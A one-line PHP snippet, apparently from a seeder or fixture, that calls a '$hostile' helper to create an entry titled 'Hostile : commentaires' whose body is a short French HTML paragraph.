$hostile('hostile-commentaires', 'Hostile : commentaires', ['body' => '<p>Le danger est dans la discussion.</p>']);
